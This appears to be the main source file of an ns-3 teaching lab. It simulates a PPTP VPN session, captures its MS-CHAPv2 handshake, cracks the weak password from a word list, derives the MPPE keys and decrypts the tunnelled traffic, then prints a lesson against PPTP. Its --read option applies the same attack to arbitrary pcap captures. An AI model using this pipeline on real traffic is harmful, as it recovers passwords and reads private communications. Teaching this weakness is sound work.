/*
 * Copyright (c) 2026 The ns3-pptp authors
 *
 * SPDX-License-Identifier: GPL-2.0-only
 */

/*
 * PPTP security lab: why MS-CHAPv2 and MPPE do not protect a tunnel whose password is weak.
 *
 *   client --access-- ISP router ==core== server ==lan== host (172.16.1.2)
 *                         |
 *                    eavesdropper (reads every frame of the core link, sends nothing)
 *
 * The client brings its PPTP tunnel up (MS-CHAPv2, MPPE-128 stateless by default) with a weak
 * password and sends a secret to the LAN host through it; the host answers each datagram.
 * An eavesdropper on the ISP router's core link records the frames. After the simulation it
 * attacks what it recorded, and prints each step:
 *   1. what was captured: frames, PPTP calls, the MS-CHAPv2 exchange in hex, the MPPE mode;
 *   2. the dictionary attack on the NT-Response (RFC 2759 s.8.1): words tried, the match;
 *   3. the match confirmed with the server's authenticator response (S=, RFC 2759 s.8.7);
 *   4. the MPPE keys derived from the password (RFC 3079 s.3);
 *   5. the captured frames decrypted each way, and the secret shown as text;
 *   6. the lesson.
 *
 *   ./pptp-security-lab                                  (password "password1": found)
 *   ./pptp-security-lab --password='Tr0ub4dor&3-horse'   (not in the list: nothing decrypted)
 *   ./pptp-security-lab --mppe=40 --stateless=false
 *   ./pptp-security-lab --pcap=lab.pcap                  (the eavesdropper's capture)
 *   ./pptp-security-lab --read=lab.pcap                  (attack a capture offline)
 *   ./pptp-security-lab --read=/work/shared/captures/chapcrack_sample_pptp-only.pcap
 *   ./pptp-security-lab --wordlist=my-words.txt
 */

#include "pptp-security-lab.h"

#include "mppe-keys.h"
#include "mschapv2-dictionary-attack.h"
#include "mschapv2.h"
#include "pptp-call-decryptor.h"
#include "pptp-captured-call.h"
#include "pptp-client.h"
#include "pptp-command-line.h"
#include "pptp-eavesdropper.h"
#include "pptp-security-options.h"
#include "pptp-server.h"
#include "pptp-trace-collector.h"
#include "pptp-trace-options.h"
#include "pptp-wire-text.h"

#include "ns3/command-line.h"
#include "ns3/node.h"
#include "ns3/nstime.h"
#include "ns3/point-to-point-net-device.h"
#include "ns3/simulator.h"

#include <algorithm>
#include <cstdlib>
#include <iomanip>
#include <iostream>
#include <limits>
#include <map>
#include <sstream>
#include <string>
#include <tuple>
#include <vector>

using namespace ns3;

namespace
{

/// Characters of a plaintext preview.
constexpr std::size_t PREVIEW = 72;

/**
 * \brief Lower-case hex of octets.
 * \param data the octets
 * \param size how many
 * \return the text
 */
std::string
Hex(const uint8_t* data, std::size_t size)
{
    std::string out;
    pptp::AppendHex(out, data, size);
    return out;
}

/**
 * \brief Lower-case hex of an array.
 * \param bytes the array
 * \return the text
 */
template <std::size_t N>
std::string
Hex(const std::array<uint8_t, N>& bytes)
{
    return Hex(bytes.data(), N);
}

/**
 * \brief Octets as text, '.' for the unprintable ones, cut at PREVIEW characters.
 * \param data the octets
 * \param size how many
 * \return the text
 */
std::string
Printable(const uint8_t* data, std::size_t size)
{
    std::string out;
    for (std::size_t i = 0; i < size && i < PREVIEW; ++i)
    {
        out += (data[i] >= 0x20 && data[i] < 0x7f) ? static_cast<char>(data[i]) : '.';
    }
    return size > PREVIEW ? out + "..." : out;
}

/**
 * \brief A direction in words.
 * \param direction the direction
 * \return "client -> server" or "server -> client"
 */
const char*
DirectionText(PptpFrameDirection direction)
{
    return direction == PptpFrameDirection::CLIENT_TO_SERVER ? "client -> server"
                                                             : "server -> client";
}

/**
 * \brief The MPPE mode of a call in words, e.g. "MPPE-128 stateless".
 * \param call the call
 * \return the text
 */
std::string
MppeText(const PptpCapturedCall& call)
{
    if (!call.hasMppe)
    {
        return "no MPPE option acknowledged";
    }
    const char* bits = call.GetStrength() == MppeStrength::BITS_128  ? "128"
                       : call.GetStrength() == MppeStrength::BITS_56 ? "56"
                                                                     : "40";
    std::ostringstream os;
    os << "MPPE-" << bits << (call.IsStateless() ? " stateless" : " stateful")
       << " (Supported Bits 0x" << std::hex << std::setw(8) << std::setfill('0') << call.mppeBits
       << ")";
    return os.str();
}

/// What the program found, for the database and the exit summary.
struct Findings
{
    Ptr<PptpTraceCollector> db; //!< the database (null if off)
    Ptr<Node> tap;              //!< the eavesdropper's node (null when reading a file)
    bool exchange{false};       //!< an MS-CHAPv2 exchange was captured
    bool found{false};          //!< its password was recovered
    bool secretSeen{false};     //!< the expected secret was among the plaintexts

    /**
     * \brief Record an attack step in the database.
     * \param name the step
     * \param detail its detail
     * \param value its value (NaN for none)
     */
    void
    Event(const std::string& name,
          const std::string& detail = "",
          double value = std::numeric_limits<double>::quiet_NaN()) const
    {
        if (db)
        {
            db->AddEvent(tap, "attack", name, detail, value);
        }
    }
};

/**
 * \brief Step 1: what the eavesdropper captured.
 * \param eve the eavesdropper
 * \param source where the frames came from
 */
void
PrintCaptured(const PptpEavesdropper& eve, const std::string& source)
{
    std::cout << "\n1. What the eavesdropper captured (" << source << ")\n";
    std::cout << "   Frames: " << eve.GetFrameCount() << " (GRE " << eve.GetGreCount()
              << ", PPTP control segments " << eve.GetControlSegmentCount() << ", other "
              << eve.GetIgnoredCount() << ", malformed " << eve.GetMalformedCount() << ")\n";
    for (uint8_t e = 1; e < static_cast<uint8_t>(PptpCaptureError::COUNT); ++e)
    {
        auto error = static_cast<PptpCaptureError>(e);
        if (eve.GetMalformedCount(error) > 0)
        {
            std::cout << "   Malformed at " << error << ": " << eve.GetMalformedCount(error)
                      << " (skipped)\n";
        }
    }
    if (!eve.GetControlMessages().empty())
    {
        std::cout << "   PPTP control messages:";
        for (const PptpCapturedControl& m : eve.GetControlMessages())
        {
            std::cout << " " << PptpControlMessageTypeName(m.type) << ";";
        }
        std::cout << "\n";
    }
    const std::vector<PptpCapturedCall>& calls = eve.GetCalls();
    std::cout << "   PPTP calls (GRE): " << calls.size() << "\n";
    for (std::size_t i = 0; i < calls.size(); ++i)
    {
        const PptpCapturedCall& c = calls[i];
        std::cout << "   Call " << i << ": client " << c.client << " (Call ID "
                  << (c.clientCallIdKnown ? std::to_string(c.clientCallId) : "?") << ") <-> server "
                  << c.server << " (Call ID "
                  << (c.serverCallIdKnown ? std::to_string(c.serverCallId) : "?") << ")\n";
        std::cout << "     GRE packets: " << c.greFrames[0] << " client -> server, "
                  << c.greFrames[1] << " server -> client; PPP frames " << c.pppFrames << "\n";
        if (!c.hasChallenge)
        {
            std::cout << "     No MS-CHAPv2 Challenge seen\n";
        }
        else
        {
            const MsChapV2Exchange& x = c.exchange;
            std::cout << "     MS-CHAPv2 Challenge from \"" << c.authenticatorName
                      << "\", Identifier " << static_cast<unsigned>(c.chapIdentifier) << "\n";
            std::cout << "       Authenticator Challenge: " << Hex(x.authenticatorChallenge)
                      << "\n";
            if (c.hasResponse)
            {
                std::cout << "       User name:               " << x.userName << "\n";
                std::cout << "       Peer-Challenge:          " << Hex(x.peerChallenge) << "\n";
                std::cout << "       NT-Response:             " << Hex(x.ntResponse) << "\n";
            }
            if (c.hasSuccess || c.hasFailure)
            {
                std::cout << "       " << (c.hasSuccess ? "Success" : "Failure")
                          << ":                 " << c.resultMessage << "\n";
            }
        }
        std::cout << "     CCP agreed on: " << MppeText(c) << "\n";
        std::cout << "     MPPE frames stored: "
                  << c.CountFrames(PptpFrameDirection::CLIENT_TO_SERVER) << " client -> server, "
                  << c.CountFrames(PptpFrameDirection::SERVER_TO_CLIENT) << " server -> client\n";
    }
}

/**
 * \brief Step 5: the decrypted frames, grouped by flow, with the text they carry.
 * \param decryptor the decrypted call
 * \param secret the secret the simulation sent ("" when reading a file)
 * \param findings receives whether the secret was seen
 */
void
PrintPlaintexts(const PptpCallDecryptor& decryptor, const std::string& secret, Findings& findings)
{
    // (direction, protocol, source, destination, source port, destination port)
    using Flow = std::tuple<uint8_t, uint8_t, uint32_t, uint32_t, uint16_t, uint16_t>;
    std::map<Flow, std::pair<uint64_t, std::string>> flows; // count, first payload
    uint64_t secrets = 0;
    for (const PptpDecryptedFrame& f : decryptor.GetFrames())
    {
        PptpIpv4View ip;
        if (!f.GetIpv4(ip))
        {
            continue;
        }
        uint16_t sport = 0;
        uint16_t dport = 0;
        const uint8_t* data = ip.payload;
        std::size_t size = ip.payloadSize;
        ip.GetUdp(sport, dport, data, size);
        if (!secret.empty() && std::string(data, data + size) == secret)
        {
            ++secrets;
        }
        auto& entry = flows[Flow(static_cast<uint8_t>(f.direction),
                                 ip.protocol,
                                 ip.source.Get(),
                                 ip.destination.Get(),
                                 sport,
                                 dport)];
        if (entry.first++ == 0)
        {
            entry.second = Printable(data, size);
        }
    }
    for (const auto& [flow, entry] : flows)
    {
        const auto& [direction, protocol, src, dst, sport, dport] = flow;
        std::cout << "   " << DirectionText(static_cast<PptpFrameDirection>(direction))
                  << ", IP protocol " << static_cast<unsigned>(protocol) << ", " << Ipv4Address(src)
                  << ":" << sport << " -> " << Ipv4Address(dst) << ":" << dport << ", "
                  << entry.first << " datagram(s); the first says:\n"
                  << "     \"" << entry.second << "\"\n";
    }
    if (!secret.empty())
    {
        findings.secretSeen = secrets > 0;
        std::cout << "   The secret the client sent: \"" << secret << "\"\n"
                  << "   Recovered byte for byte from the capture: " << secrets << " time(s)\n";
        findings.Event("secret-revealed", secret, static_cast<double>(secrets));
    }
}

/**
 * \brief Steps 2 to 5 on one call.
 * \param call the call
 * \param words the word list
 * \param wordlist its file name
 * \param secret the secret the simulation sent ("" when reading a file)
 * \param findings what was found
 */
void
AttackCall(const PptpCapturedCall& call,
           const std::vector<std::string>& words,
           const std::string& wordlist,
           const std::string& secret,
           Findings& findings)
{
    const MsChapV2Exchange& x = call.exchange;
    MsChapV2DictionaryAttack attack(x);
    std::cout << "\n2. Dictionary attack on the NT-Response (RFC 2759 s.8.1)\n"
              << "   Everything but the password is on the wire: ChallengeHash(Peer-Challenge, "
                 "Authenticator Challenge, \""
              << x.userName << "\") = " << Hex(attack.GetChallengeDigest()) << "\n"
              << "   For each word: NtPasswordHash = MD4(UTF-16LE word), then 3 DES encryptions "
                 "of the digest, compared with the NT-Response\n"
              << "   Words in " << wordlist << ": " << words.size() << "\n";
    MsChapV2AttackResult result = attack.Run(words);
    if (!result.found)
    {
        std::cout << "   No word matched after " << result.attempts
                  << " attempts: the password is not in the list.\n"
                  << "   Without the password the MPPE keys cannot be derived: nothing is "
                     "decrypted.\n";
        findings.Event("password-not-found", x.userName, static_cast<double>(result.attempts));
        return;
    }
    findings.found = true;
    std::cout << "   Match after " << result.attempts << " attempts: the password of \""
              << x.userName << "\" is \"" << result.password << "\"\n"
              << "   Its NT hash (what the server stores): " << Hex(result.passwordHash) << "\n";
    findings.Event("password-recovered", result.password, static_cast<double>(result.attempts));

    std::cout << "\n3. Verification with the server's Success message (RFC 2759 s.8.7)\n";
    if (!result.verifiable)
    {
        std::cout << "   No Success message captured: the NT-Response match is the only check.\n";
    }
    else
    {
        MsChapV2::AuthenticatorResponse computed = MsChapV2::GenerateAuthenticatorResponse(
            result.password, x.ntResponse, x.peerChallenge, x.authenticatorChallenge, x.userName);
        std::cout << "   Computed: " << MsChapV2::FormatAuthenticatorResponse(computed) << "\n"
                  << "   Captured: "
                  << MsChapV2::FormatAuthenticatorResponse(x.authenticatorResponse) << "\n"
                  << "   "
                  << (result.verified ? "Equal: the password is confirmed."
                                      : "Different: the match is not confirmed.")
                  << "\n";
        findings.Event("password-verified", result.verified ? "S= equal" : "S= different");
    }

    PptpCallDecryptor decryptor(call, result.password);
    const PptpCallKeys& k = decryptor.GetKeys();
    const MppeStrength strength = call.GetStrength();
    std::cout << "\n4. MPPE keys (RFC 3079 s.3), " << MppeText(call) << "\n"
              << "   PasswordHashHash = MD4(NT hash):        " << Hex(k.passwordHashHash) << "\n"
              << "   MasterKey = SHA-1(PasswordHashHash, NT-Response, Magic1)[0..15]:\n"
              << "                                           " << Hex(k.masterKey) << "\n"
              << "   Client send start key (server receive): " << k.clientSendStartKey << "\n"
              << "   Server send start key (client receive): " << k.serverSendStartKey << "\n"
              << "   First session keys (after ReduceKey):   "
              << MppeKeys::GetInitialSessionKey(k.clientSendStartKey, strength) << ", "
              << MppeKeys::GetInitialSessionKey(k.serverSendStartKey, strength) << "\n";
    findings.Event("keys-derived", k.clientSendStartKey.ToHex());

    std::cout << "\n5. Decryption of the captured MPPE frames\n";
    for (PptpFrameDirection d :
         {PptpFrameDirection::CLIENT_TO_SERVER, PptpFrameDirection::SERVER_TO_CLIENT})
    {
        std::cout << "   " << DirectionText(d) << ": " << call.CountFrames(d) << " captured, "
                  << decryptor.GetDecryptedCount(d) << " decrypted (" << decryptor.GetIpv4Count(d)
                  << " of them well-formed IPv4), " << decryptor.GetFailedCount(d) << " refused\n";
        findings.Event(
            "decrypted", DirectionText(d), static_cast<double>(decryptor.GetDecryptedCount(d)));
    }
    PrintPlaintexts(decryptor, secret, findings);
}

/**
 * \brief Step 6: the lesson.
 */
void
PrintLesson()
{
    std::cout
        << "\n6. The lesson\n"
        << "   - MS-CHAPv2 sends both challenges and the user name in clear; the NT-Response is\n"
        << "     a function of them and of the password alone. A passive eavesdropper can test\n"
        << "     guesses offline, as fast as it can compute MD4 and DES, and the server never\n"
        << "     sees a failed attempt. Any password in a word list falls in seconds.\n"
        << "   - MPPE keys come from the same password hash and the captured NT-Response\n"
        << "     (RFC 3079): whoever has the password decrypts every frame of the session,\n"
        << "     recorded before or after, in both directions.\n"
        << "   - A strong password does not save it (the DES split, described, not run here):\n"
        << "     the 16-octet NT hash is padded to 21 octets and cut into three 7-octet DES\n"
        << "     keys, each encrypting the same 8-octet challenge. The third key has only 2\n"
        << "     unknown octets (2^16 tries); the other two are each a single 56-bit DES key,\n"
        << "     found together in one 2^56 search (chapcrack / CloudCracker, 2012). That yields\n"
        << "     the NT hash, which is all that is needed to authenticate and derive the MPPE\n"
        << "     keys, whatever the password.\n"
        << "   - So: do not use PPTP with MS-CHAPv2 (Microsoft advisory 2743314); use a VPN with\n"
        << "     certificate-based or EAP-TLS authentication and modern ciphers.\n";
}

} // namespace

int
main(int argc, char* argv[])
{
    PptpSecurityOptions security;
    security.password = "password1";
    // The word list sits next to this source file unless --wordlist says otherwise.
    std::string source = __FILE__;
    std::string wordlist
        = source.substr(0, source.find_last_of('/') + 1) + "pptp-security-lab-words.txt";
    std::string pcap;
    std::string read;
    PptpTraceOptions trace("pptp-security-lab.db");
    std::string secret = "The exam answers are: 1-B 2-D 3-A 4-C 5-B";
    uint32_t messages = 3;

    CommandLine cmd(__FILE__);
    security.AddToCommandLine(cmd);
    PptpAddTextValue(cmd, "wordlist", "The attacker's word list (one password a line)", wordlist);
    PptpAddTextValue(
        cmd, "pcap", "Write the eavesdropper's capture to this pcap file (--pcap= for none)", pcap);
    PptpAddTextValue(
        cmd,
        "read",
        "Attack this pcap file instead of running the simulation (Ethernet, PPP, raw IP)",
        read);
    PptpAddTextValue(cmd, "secret", "The secret the client sends through its tunnel", secret);
    cmd.AddValue("messages", "How many times the client sends it (1..1000)", messages);
    trace.AddToCommandLine(cmd);
    cmd.Parse(argc, argv);

    for (const std::string& problem : {security.Validate(), trace.Validate()})
    {
        if (!problem.empty())
        {
            std::cerr << problem << std::endl;
            return EXIT_FAILURE;
        }
    }
    if (messages < 1 || messages > 1000)
    {
        std::cerr << "--messages must be 1..1000 (not " << messages << ")" << std::endl;
        return EXIT_FAILURE;
    }
    std::vector<std::string> words;
    if (!MsChapV2DictionaryAttack::ReadWordList(wordlist, words))
    {
        std::cerr << "cannot read the word list " << wordlist << std::endl;
        return EXIT_FAILURE;
    }

    // Offline, the capture is read first: a file that cannot be read leaves no run behind.
    Ptr<PptpEavesdropper> eve;
    if (!read.empty())
    {
        eve = CreateObject<PptpEavesdropper>();
        std::string error;
        if (!eve->ReadPcap(read, error))
        {
            std::cerr << error << std::endl;
            return EXIT_FAILURE;
        }
    }
    Findings findings;
    findings.db = trace.Open("pptp-security-lab", cmd, argc, argv);

    PptpSecurityLab lab;
    std::string captureSource;
    if (read.empty())
    {
        lab.SetSecurity(security);
        lab.SetSecret(secret);
        lab.SetMessageCount(messages);
        lab.SetPcapFile(pcap);
        lab.Install();
        PptpRemoteAccessTopology& topology = lab.GetTopology();
        findings.tap = topology.GetIspRouter();
        if (findings.db)
        {
            PptpWatchTopology(findings.db, topology);
            findings.db->SetNodeRole(findings.tap, "eavesdropper", "isp-router");
        }
        Simulator::Stop(lab.GetStopTime());
        Simulator::Run();
        eve = lab.GetEavesdropper();
        std::cout << "PPTP security lab: user \"" << security.user << "\", password \""
                  << security.password << "\", authentication " << security.auth << ", MPPE "
                  << security.mppe << (security.stateless ? " stateless" : " stateful") << "\n"
                  << "Tunnel up: " << (lab.IsTunnelUp() ? "yes" : "no") << "; secret sent "
                  << lab.GetMessagesSent() << " time(s), delivered " << lab.GetMessagesDelivered()
                  << ", replies " << lab.GetRepliesReceived() << "\n";
        std::ostringstream where;
        where << "the ISP router's core link to the server " << topology.GetServerAddress();
        captureSource = where.str();
        if (!pcap.empty())
        {
            std::cout << "Eavesdropper's capture written to " << pcap << "\n";
        }
    }
    else
    {
        std::cout << "PPTP security lab, offline: attacking " << read << "\n";
        captureSource = read;
        secret.clear(); // what the capture holds is unknown
    }

    PrintCaptured(*eve, captureSource);
    uint32_t attacked = 0;
    for (const PptpCapturedCall& call : eve->GetCalls())
    {
        if (!call.HasExchange())
        {
            continue;
        }
        findings.exchange = true;
        findings.Event("exchange-captured", call.exchange.userName);
        ++attacked;
        AttackCall(call, words, wordlist, secret, findings);
    }
    if (attacked == 0)
    {
        std::cout << "\n2. Dictionary attack: no complete MS-CHAPv2 exchange (Challenge and "
                     "Response) was captured, nothing to attack.\n";
        findings.Event("no-exchange");
    }
    PrintLesson();

    std::cout << "\nSummary: exchange captured " << (findings.exchange ? "yes" : "no")
              << ", password recovered " << (findings.found ? "yes" : "no");
    if (!secret.empty())
    {
        std::cout << ", secret read " << (findings.secretSeen ? "yes" : "no");
    }
    std::cout << std::endl;

    if (findings.db)
    {
        findings.db->Finish();
        std::cout << "Database: " << trace.db << std::endl;
    }
    lab.Dispose();
    Simulator::Destroy();
    return EXIT_SUCCESS;
}
